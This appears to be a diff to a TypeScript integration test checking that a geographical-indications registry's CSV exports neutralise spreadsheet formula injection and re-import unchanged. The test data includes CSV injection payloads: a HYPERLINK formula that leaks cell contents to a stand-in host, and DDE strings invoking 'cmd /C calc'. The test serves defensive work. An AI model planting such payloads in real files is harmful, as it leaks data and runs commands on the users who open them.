@@ -1,3 +1,4 @@
+import { parse } from 'csv-parse/sync';
 import { randomInt } from 'node:crypto';
 import { DataSource } from 'typeorm';
 import { auth, createOrg, createProduct, createRegulator, createSite, OrgWithKey, uniqueUscc } from './support/factories';
@@ -313,6 +314,36 @@ describe('geographical indications: registry, authorised users, claims, CSV, usa
       expect(exported.text).not.toContain(hanyuan.id);
       const reimport = await csvPost('/api/v1/gi/authorisations.csv', exported.text).expect(201);
       expect(reimport.body.created).toBe(0);
+      expect(reimport.body.unchanged).toBe(reimport.body.rows);
+    });
+
+    it('neutralises formula cells in both exports (public records.csv, regulators\' authorisations.csv), and the exports re-import unchanged', async () => {
+      const hostile = {
+        productName: '=HYPERLINK("http://evil.example.cn/?leak="&A1,"点我")', holderName: '@SUM(1+1)*cmd|\' /C calc\'!A0',
+        areaText: '+1+1', specReference: '-2+3+cmd|\' /C calc\'!A0',
+      };
+      const g = await createGi(hostile);
+      const holder = await createOrg(t, { name: '=1+1 恶意合作社' });
+      await authorise(g.id, { organizationId: holder.id, validFrom: '2026-01-01' }).expect(201);
+
+      const records = await t.http().get('/api/v1/gi/records.csv').expect(200);
+      const recordRow = (parse(records.text, { bom: true, columns: true }) as Record<string, string>[]).find((r) => r.registration_number === g.registrationNumber);
+      expect(recordRow).toMatchObject({
+        product_name: `'${hostile.productName}`, holder_name: `'${hostile.holderName}`, area_text: `'${hostile.areaText}`, spec_reference: `'${hostile.specReference}`,
+      });
+      const auths = await t.http().get('/api/v1/gi/authorisations.csv').set(auth(chengdu.token)).expect(200);
+      const authRow = (parse(auths.text, { bom: true, columns: true }) as Record<string, string>[]).find((r) => r.registration_number === g.registrationNumber);
+      expect(authRow).toMatchObject({ organization_name: "'=1+1 恶意合作社" });
+      for (const text of [records.text, auths.text]) {
+        for (const cell of (parse(text, { bom: true }) as string[][]).flat()) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
+      }
+
+      // Re-importing the exports changes nothing: the apostrophes are read back off.
+      const again = await csvPost('/api/v1/gi/records.csv', records.text, ADMIN_TOKEN).expect(201);
+      expect(again.body.unchanged).toBe(again.body.rows);
+      const [stored] = await db.query('SELECT product_name AS "productName", holder_name AS "holderName", area_text AS "areaText", spec_reference AS "specReference" FROM gi_records WHERE id = $1', [g.id]);
+      expect(stored).toEqual(hostile);
+      const reimport = await csvPost('/api/v1/gi/authorisations.csv', auths.text).expect(201);
       expect(reimport.body.unchanged).toBe(reimport.body.rows);
     });
 
